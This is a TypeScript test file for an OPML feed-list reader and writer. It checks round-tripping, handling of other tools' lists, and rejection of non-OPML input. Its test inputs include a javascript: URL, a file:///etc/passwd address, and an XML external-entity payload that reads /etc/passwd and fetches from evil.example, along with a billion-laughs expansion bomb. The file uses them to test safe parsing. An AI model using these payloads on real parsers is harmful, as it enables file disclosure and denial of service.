import { parseOpml } from 'feedsmith';
import { expect, test } from 'vitest';
import { readOpml, writeOpml } from './read.ts';

const list = {
  title: 'Voices of <Harrowmere> & around',
  feeds: [
    {
      title: 'Council "news"',
      xmlUrl: 'https://council.example/feed?a=1&b=2',
      htmlUrl: 'https://council.example/',
      category: ['Public', 'Council'],
    },
    { title: 'St Brigid’s', xmlUrl: 'https://stbrigid.example/feed', category: ['Public'] },
    { title: 'Alone', xmlUrl: 'https://alone.example/feed' },
  ],
};

test('what is written is read back the same, by us and by another parser', () => {
  const xml = writeOpml(list);
  const back = readOpml(Buffer.from(xml));
  expect(back).toEqual({ kind: 'opml', title: list.title, feeds: expect.arrayContaining(list.feeds) });
  const other = parseOpml(xml);
  expect(other.body?.outlines?.map((o) => o.text)).toEqual(['Public', 'Alone']);
});

test('lists of other makers: flat, without titles, with feed: addresses, twice the same', () => {
  const read = readOpml(
    Buffer.from(`<?xml version="1.0"?><OPML version="1.1"><head><title>T</title></head><body>
    <outline title="A" xmlURL="feed:https://a.example/f" type="rss"/><outline text="A again" xmlUrl="https://a.example/f"/>
    <outline text="bad" xmlUrl="javascript:alert(1)"/><outline text="file" xmlUrl="file:///etc/passwd"/><outline xmlUrl="https://b.example/"></body></opml>`),
  );
  expect(read).toEqual({
    kind: 'opml',
    title: 'T',
    feeds: [
      { title: 'A', xmlUrl: 'https://a.example/f' },
      { title: 'https://b.example/', xmlUrl: 'https://b.example/' },
    ],
  });
});

test('what is no list is told so', () => {
  expect(readOpml(Buffer.from('<html></html>'))).toEqual({
    kind: 'broken',
    message: 'This is not an OPML list of feeds.',
  });
  expect(readOpml(Buffer.from('')).kind).toBe('broken');
});

test('row 12 (entities): a list follows nothing outside itself and does not grow', () => {
  const evil = `<!DOCTYPE opml [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY % p SYSTEM "http://evil.example/"> %p; ${[...Array(10).keys()].map((i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join('')}<!ENTITY l0 "lol">]>`;
  const body = (text: string): Buffer =>
    Buffer.from(
      `${evil}<opml><head><title>${text}</title></head><body><outline text="${text}" xmlUrl="https://a.example/"/></body></opml>`,
    );
  expect(readOpml(body('&x;'))).toEqual({
    kind: 'opml',
    title: '&x;',
    feeds: [{ title: '&x;', xmlUrl: 'https://a.example/' }],
  });
  expect(readOpml(body('&l9;')).kind).toBe('broken');
  expect(readOpml(Buffer.from('<outline>'.repeat(100_000))).kind).toBe('broken');
});
